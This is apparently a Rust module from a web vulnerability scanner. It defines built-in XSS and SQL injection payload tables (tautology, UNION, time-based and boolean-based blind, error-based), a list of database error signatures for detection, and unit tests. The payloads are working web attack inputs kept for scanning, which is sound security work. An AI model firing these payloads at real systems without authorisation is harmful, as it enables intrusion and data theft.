//! Built-in payload corpora.
//!
//! The tables are plain statics. [`PayloadCorpus::builtin`] bundles them once
//! and detectors share the result behind an `Arc`; nothing mutates them.

use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum VulnClass {
    Xss,
    Sqli,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum PayloadSubtype {
    /// XSS payloads have no finer split.
    Reflected,
    ErrorBased,
    TimeBased,
    BooleanBased,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Payload {
    pub value: &'static str,
    pub class: VulnClass,
    pub subtype: PayloadSubtype,
}

impl Payload {
    const fn xss(value: &'static str) -> Self {
        Self {
            value,
            class: VulnClass::Xss,
            subtype: PayloadSubtype::Reflected,
        }
    }

    const fn sqli(value: &'static str, subtype: PayloadSubtype) -> Self {
        Self {
            value,
            class: VulnClass::Sqli,
            subtype,
        }
    }

    pub fn is_time_based(&self) -> bool {
        self.subtype == PayloadSubtype::TimeBased
    }
}

pub static XSS_PAYLOADS: &[Payload] = &[
    Payload::xss("<script>alert('xss')</script>"),
    Payload::xss("<img src=x onerror=alert('xss')>"),
    Payload::xss("<svg onload=alert('xss')>"),
    Payload::xss("javascript:alert('xss')"),
    Payload::xss("<iframe src=javascript:alert('xss')>"),
    Payload::xss("';alert('xss');//"),
    Payload::xss("\"><script>alert('xss')</script>"),
    Payload::xss("<script>alert(String.fromCharCode(88,83,83))</script>"),
    Payload::xss("<img src=\"javascript:alert('xss')\">"),
    Payload::xss("<div onmouseover=\"alert('xss')\">test</div>"),
];

use PayloadSubtype::{BooleanBased, ErrorBased, TimeBased};

pub static SQLI_PAYLOADS: &[Payload] = &[
    // quoting and tautologies
    Payload::sqli("'", ErrorBased),
    Payload::sqli("\"", ErrorBased),
    Payload::sqli("' OR '1'='1", ErrorBased),
    Payload::sqli("' OR 1=1--", ErrorBased),
    Payload::sqli("' OR 1=1#", ErrorBased),
    Payload::sqli("' OR 1=1/*", ErrorBased),
    Payload::sqli("admin'--", ErrorBased),
    Payload::sqli("admin'#", ErrorBased),
    // union
    Payload::sqli("' UNION SELECT NULL--", ErrorBased),
    Payload::sqli("' UNION SELECT 1,2,3--", ErrorBased),
    Payload::sqli("' UNION ALL SELECT NULL,NULL,NULL--", ErrorBased),
    // time-based blind
    Payload::sqli("'; WAITFOR DELAY '00:00:05'--", TimeBased),
    Payload::sqli("' OR SLEEP(5)--", TimeBased),
    Payload::sqli("'; SELECT pg_sleep(5)--", TimeBased),
    // boolean-based blind
    Payload::sqli("' AND 1=1--", BooleanBased),
    Payload::sqli("' AND 1=2--", BooleanBased),
    Payload::sqli("' OR 'a'='a", BooleanBased),
    Payload::sqli("' OR 'a'='b", BooleanBased),
    // error-based
    Payload::sqli(
        "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
        ErrorBased,
    ),
    Payload::sqli(
        "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e))--",
        ErrorBased,
    ),
];

/// Substrings that give away a database error page. Matched case-insensitively,
/// first match in table order wins.
pub static SQL_ERROR_SIGNATURES: &[&str] = &[
    // MySQL
    "mysql_fetch_array",
    "mysql_num_rows",
    "mysql_fetch_assoc",
    "mysql_fetch_row",
    "mysql_connect",
    "mysql_result",
    "You have an error in your SQL syntax",
    "mysql server version for the right syntax",
    // PostgreSQL
    "pg_query",
    "pg_fetch_array",
    "pg_num_rows",
    "pg_connect",
    "PostgreSQL query failed",
    "supplied argument is not a valid PostgreSQL result",
    "syntax error at or near",
    // MSSQL
    "mssql_query",
    "mssql_fetch_array",
    "mssql_num_rows",
    "Microsoft OLE DB Provider",
    "ODBC Microsoft Access Driver",
    "Unclosed quotation mark",
    "Incorrect syntax near",
    // Oracle
    "ociexecute",
    "ocifetchstatement",
    "ora_fetch_into",
    "ORA-00933",
    "ORA-00921",
    "ORA-00936",
    // SQLite
    "sqlite_query",
    "sqlite_fetch_array",
    "sqlite_num_rows",
    "SQLite/JDBCDriver",
    "System.Data.SQLite.SQLiteException",
    // generic
    "SQL syntax",
    "database error",
    "warning: mysql",
    "valid MySQL result",
    "MySqlClient",
    "ORA-01756",
];

#[derive(Debug, Clone)]
pub struct PayloadCorpus {
    pub xss: Vec<Payload>,
    pub sqli: Vec<Payload>,
    error_signatures: Vec<(&'static str, String)>,
}

impl PayloadCorpus {
    pub fn builtin() -> Self {
        Self {
            xss: XSS_PAYLOADS.to_vec(),
            sqli: SQLI_PAYLOADS.to_vec(),
            error_signatures: SQL_ERROR_SIGNATURES
                .iter()
                .map(|sig| (*sig, sig.to_lowercase()))
                .collect(),
        }
    }

    pub fn payloads(&self, class: VulnClass) -> &[Payload] {
        match class {
            VulnClass::Xss => &self.xss,
            VulnClass::Sqli => &self.sqli,
        }
    }

    pub fn error_signatures(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.error_signatures.iter().map(|(sig, _)| *sig)
    }

    /// First SQL error signature contained in `body`, ignoring case.
    pub fn match_sql_error(&self, body: &str) -> Option<&'static str> {
        let body = body.to_lowercase();
        self.error_signatures
            .iter()
            .find(|(_, lowered)| body.contains(lowered.as_str()))
            .map(|(sig, _)| *sig)
    }
}

impl Default for PayloadCorpus {
    fn default() -> Self {
        Self::builtin()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_table_sizes() {
        let corpus = PayloadCorpus::builtin();
        assert_eq!(corpus.payloads(VulnClass::Xss).len(), 10);
        assert_eq!(corpus.payloads(VulnClass::Sqli).len(), 20);
        assert!(corpus.error_signatures().count() >= 30);
    }

    #[test]
    fn test_time_based_payloads_carry_a_delay_primitive() {
        for payload in SQLI_PAYLOADS {
            let lowered = payload.value.to_lowercase();
            let has_delay = ["sleep", "waitfor", "pg_sleep"]
                .iter()
                .any(|p| lowered.contains(p));
            assert_eq!(payload.is_time_based(), has_delay, "{}", payload.value);
        }
    }

    #[test]
    fn test_classes_are_consistent() {
        assert!(XSS_PAYLOADS.iter().all(|p| p.class == VulnClass::Xss));
        assert!(SQLI_PAYLOADS.iter().all(|p| p.class == VulnClass::Sqli));
    }

    #[test]
    fn test_match_sql_error_is_case_insensitive_and_ordered() {
        let corpus = PayloadCorpus::builtin();
        assert_eq!(
            corpus.match_sql_error("<b>YOU HAVE AN ERROR IN YOUR SQL SYNTAX near ''</b>"),
            Some("You have an error in your SQL syntax")
        );
        assert_eq!(
            corpus.match_sql_error("ERROR: syntax error at or near \"'\""),
            Some("syntax error at or near")
        );
        assert_eq!(corpus.match_sql_error("<html>all good</html>"), None);
    }
}
